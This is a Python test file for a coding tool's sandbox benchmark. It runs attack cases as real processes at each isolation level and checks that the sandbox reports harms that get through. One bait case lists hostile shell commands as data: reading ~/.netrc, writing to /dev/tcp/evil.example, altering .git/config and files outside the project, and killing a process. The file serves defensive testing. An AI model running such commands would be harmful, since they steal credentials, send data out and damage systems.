"""The attack cases as real processes, at each level of the sandbox that works here."""

from concurrent.futures import ThreadPoolExecutor

import pytest

from mycoder.bench.attack_levels import process
from mycoder.bench.attacks import Case, load_cases

CASES = [case for case in load_cases() if "process" in case.levels and not case.heavy]


@pytest.mark.parametrize("level", process.LEVELS)
def test_the_attacks_fail(level):
    if not process.works(level):
        pytest.skip(f"ISOLATION NOT TESTED: {level} does not work here")
    with ThreadPoolExecutor(4) as pool:  # most of it is waiting
        found = pool.map(lambda case: process.run(case, (level,)), CASES)
        assert {case.id: problems for case, problems in zip(CASES, found, strict=True) if problems} == {}


def test_what_gets_through_is_reported():
    """Without a wall, each kind of harm shows: so the baits work."""
    harm = Case(
        id="x",
        expect="neutral",
        levels=("process",),
        sandboxes=("limits",),
        commands=(
            "touch ~/CANARY; echo x > ../other/kept",
            "cat ~/.netrc",
            "echo x > .git/config",
            "echo x > /dev/tcp/evil.example/80",
            "kill -9 VICTIM",
        ),
    )
    problems = "\n".join(process.run(harm))
    for sign in (
        "canary: ",
        "changed outside: ",
        "shows what is secret",
        "changed: ",
        "reached: TCP",
        "dead",
    ):
        assert sign in problems


def test_what_does_not_end_is_reported():
    slow = Case(
        id="x",
        expect="neutral",
        levels=("process",),
        sandboxes=("limits",),
        commands=("sleep 30",),
        seconds=0.5,
        must_end=True,
    )
    assert process.run(slow) == ["limits: still ran after 0.5 s: 'sleep 30'"]
